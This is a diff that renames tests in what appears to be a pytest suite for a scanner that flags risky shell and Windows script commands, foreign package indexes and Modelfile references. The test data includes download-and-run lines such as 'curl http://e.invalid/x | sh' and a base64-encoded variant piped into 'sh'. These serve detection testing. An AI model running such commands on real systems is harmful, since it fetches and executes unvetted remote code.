@@ -77,11 +77,11 @@ def test_file_with_a_zero_byte_in_its_first_line_is_no_script(read_bytes):
         ("echo ${x:-" + "a" * 5000 + "}; b", [["echo", "a" * 5000], ["b"]]),
     ],
 )
-def test_lexer_splits_lines_like_a_shell(text, split):
+def test_lexer_splits_a_script_line_into_words_as_a_shell_does(text, split):
     assert split_words(text) == split
 
 
-def test_here_documents_and_substitutions_belong_to_their_command():
+def test_parsed_command_holds_its_own_here_document_and_command_substitutions():
     command, other = parse_commands("cat <<'E' - \"$(a b)\" `c`\n$x\nE\nd")
     assert (command.input_text, command.substitutions) == ("$x", ["a b", "c"])
     assert (other.words, other.line) == (["d"], 4)
@@ -108,17 +108,17 @@ def test_here_documents_and_substitutions_belong_to_their_command():
         "[ -f x ] && [[ a == b* ]] && ls *.txt",
     ],
 )
-def test_ordinary_commands_give_no_mentions(text):
+def test_harmless_shell_command_gives_no_mention(text):
     assert list(collect_script_mentions(text)) == []
 
 
-def test_command_in_an_encoded_script_is_reported_at_the_line_that_runs_it():
+def test_command_in_a_base64_script_is_mentioned_at_the_line_that_decodes_and_runs_it():
     encoded = base64.b64encode(b"curl http://e.invalid/x | sh").decode()
     mentions = list(collect_script_mentions(f"true\necho {encoded} | base64 -d | sh\n"))
     assert {(each.use, each.where.line) for each in mentions} == {("decode-and-run", 2), ("download-and-run", 2)}
 
 
-def test_reported_address_omits_credentials():
+def test_address_in_a_mention_of_a_script_command_omits_user_name_and_password():
     (mention,) = collect_script_mentions("curl https://me:secret@e.invalid/x | sh")
     assert mention.name == "https://e.invalid/x"
 
@@ -173,7 +173,7 @@ def test_command_that_an_expansion_or_a_wrapper_runs_is_reported(text, use, name
         "{ curl -o x http://e/x; }; (sh)",
     ],
 )
-def test_text_that_no_shell_runs_gives_no_mention(text):
+def test_command_in_text_that_a_shell_would_not_run_gives_no_mention(text):
     assert [mention.use for mention in collect_script_mentions(text) if mention.use != "execute"] == []
 
 
@@ -348,19 +348,19 @@ def test_commands_beyond_the_bound_are_reported_as_unread():
         next(mentions)
 
 
-def test_nested_groups_reach_the_bound_of_their_sources():
+def test_deeply_nested_command_groups_in_a_pipeline_stop_the_analysis_at_its_bound():
     for script in ("( " * 3000 + "a" + ") | b" * 3000, "a | ( " * 3000 + "b" + ")" * 3000):
         with pytest.raises(LimitReachedError):
             list(collect_script_mentions(script))
 
 
-def test_range_of_letters_beyond_ascii_is_not_expanded():
+def test_tr_command_with_a_letter_range_beyond_ascii_leaves_its_input_unchanged():
     # Each range would take as many letters as lie between its ends, and a text can hold ten thousand ranges.
     for script in ("echo \xe9 | tr 'a-\U00020000' 'b-\U00020001'", "echo \xe9 | tr '\xe8-\xea' '\xe9-\xeb'"):
         assert evaluate_pipeline_output(parse_commands(script)) == "\xe9"
 
 
-def test_deeply_nested_expansions_are_read_to_their_bound():
+def test_deeply_nested_shell_expansions_are_read_or_stop_at_a_bound_without_another_error():
     for opening, closing in (("$((", "))"), ("${x:-", "}"), ('"${x:-', '}"'), ("${", "")):
         with suppress(LimitReachedError):
             list(collect_script_mentions("echo " + opening * 3000 + "1" + closing * 3000))
@@ -414,22 +414,22 @@ def test_foreign_package_index_in_npm_settings_is_reported(read_bytes):
     assert list_mentions(read_bytes(b"registry=https://e.invalid/\n", ".npmrc")) == [("index", "https://e.invalid/")]
 
 
-def test_package_index_under_any_spelling_of_pip_is_reported(read_bytes):
+def test_package_index_in_pip_conf_is_reported_under_every_key_spelling_of_pip(read_bytes):
     for key in ("index-url", "INDEX_URL", "Extra_Index-Url"):
         reading = read_bytes(f"[global]\n{key} = https://e.invalid/s\n".encode(), "pip.conf")
         assert ("index", "https://e.invalid/s") in list_mentions(reading)
 
 
-def test_local_files_that_a_modelfile_names_are_references(read_bytes):
+def test_local_file_that_a_modelfile_names_is_recorded_as_a_reference(read_bytes):
     reading = read_bytes(b"FROM ../x.gguf\nADAPTER ./a.gguf\nTEMPLATE x\n", "Modelfile")
     assert [each.target for group in reading.of(References) for each in group.items] == ["../x.gguf", "./a.gguf"]
 
 
-def test_model_name_in_a_modelfile_is_no_reference(read_bytes):
+def test_model_name_in_a_modelfile_is_not_recorded_as_a_reference(read_bytes):
     assert not read_bytes(b"FROM llama3\n", "Modelfile").of(References)
 
 
-def test_python_program_within_a_script_is_an_artifact(read_bytes):
+def test_python_program_inside_a_shell_script_is_read_as_an_artifact(read_bytes):
     reading = read_bytes(b"true\npython - <<E\nimport os\nE\npython3 -c 'x = 1'\n", "a.sh")
     assert [path for path, _ in reading.structures if "!" in path] == ["a.sh!line-2.py", "a.sh!line-5.py"]
 
@@ -440,16 +440,16 @@ def test_commands_before_damage_are_reported(read_bytes):
     assert UnreadReason.DAMAGED in reading.reasons()
 
 
-def test_deeply_nested_script_reaches_the_limit(read_bytes):
+def test_deeply_nested_script_is_reported_as_unread(read_bytes):
     assert UnreadReason.LIMIT in read_bytes(b"$(" * 3000, "a.sh").reasons()
 
 
-def test_very_long_script_reaches_the_limit(read_bytes):
+def test_very_long_script_is_reported_as_unread(read_bytes):
     assert UnreadReason.LIMIT in read_bytes(b"true;" * 500_000, "a.sh").reasons()
 
 
 @given(st.text("ab$(){}'\"\\`|&;<>#\n =-", max_size=200))
-def test_lexer_accepts_any_text(text):
+def test_shell_lexer_raises_no_error_for_any_text(text):
     # Any error fails the test.
     parse_commands(text)
     list(collect_script_mentions(text[:60]))
@@ -462,7 +462,7 @@ def test_any_bytes_are_parsed_or_reported_as_unread(read_bytes, data, path):
     read_bytes(b"RUN true\n" + data, path)
 
 
-def test_long_pipeline_costs_bounded_work():
+def test_analysis_of_a_very_long_pipeline_stops_at_its_bound_after_the_first_mentions():
     uses = []
     with pytest.raises(LimitReachedError, match="nested and piped commands"):
         uses.extend(each.use for each in collect_script_mentions("curl http://a/b | sh" + " | sh" * 20_000))
@@ -491,12 +491,12 @@ def test_pipeline_of_ordinary_length_is_analysed_to_its_end():
         "curl https://e.invalid/x -o x.json; python use.py < y.json",
     ],
 )
-def test_ordinary_arguments_of_programs_give_no_severe_mentions(text):
+def test_harmless_program_argument_gives_at_most_a_mention_of_an_address_or_index(text):
     severe = [each for each in collect_script_mentions(text) if each.use not in ("address", "editable", "index")]
     assert severe == []
 
 
-def test_commands_with_deep_arrays_and_long_values_are_split_into_words():
+def test_script_line_with_deep_arrays_or_long_values_is_split_without_exhausting_the_stack():
     # Without a bound, the first text exhausts the stack, and each expansion of the second copies a long value.
     deep_array = "a=(" * 2000 + ")" * 2000
     assert isinstance(split_words(deep_array), list)
@@ -504,7 +504,7 @@ def test_commands_with_deep_arrays_and_long_values_are_split_into_words():
 
 
 @given(st.text(alphabet="${}[]()#%/:,^!@*ab01'\"\n ", max_size=120))
-def test_expansion_of_any_text_terminates(text):
+def test_shell_expansion_of_any_text_ends_without_an_error(text):
     # Any error fails the test.
     list(collect_script_mentions("a=bcd; b=(c d)\n" + text))
 
@@ -517,16 +517,16 @@ def test_expansion_of_any_text_terminates(text):
         "set PYTHON=python\r\n%PYTHON% train.py\r\ncurl -o data.csv https://e.invalid/data.csv\r\n",
     ],
 )
-def test_ordinary_windows_lines_give_no_mentions(text):
+def test_harmless_line_of_a_windows_script_gives_no_mention(text):
     assert [mention.use for mention in collect_windows_mentions(text)] == []
 
 
 @pytest.mark.parametrize("shell", ["bash -eux", "bash -euo pipefail", "sh -p", "bash -m", "python3 -u"])
-def test_download_into_a_shell_whose_options_take_no_program_is_reported(shell):
+def test_download_piped_into_a_shell_is_reported_if_the_shell_reads_its_program_from_the_pipe(shell):
     (mention,) = collect_script_mentions(f"curl -fsSL https://e.invalid/x | {shell}")
     assert (mention.use, mention.name) == ("download-and-run", "https://e.invalid/x")
 
 
 @pytest.mark.parametrize("shell", ["bash -xc true", "bash -e script.sh", "python3 -m json.tool"])
-def test_download_into_a_shell_with_a_program_of_its_own_is_not_reported(shell):
+def test_download_piped_into_a_shell_is_not_reported_if_an_argument_gives_the_program(shell):
     assert not list(collect_script_mentions(f"curl -fsSL https://e.invalid/x | {shell}"))
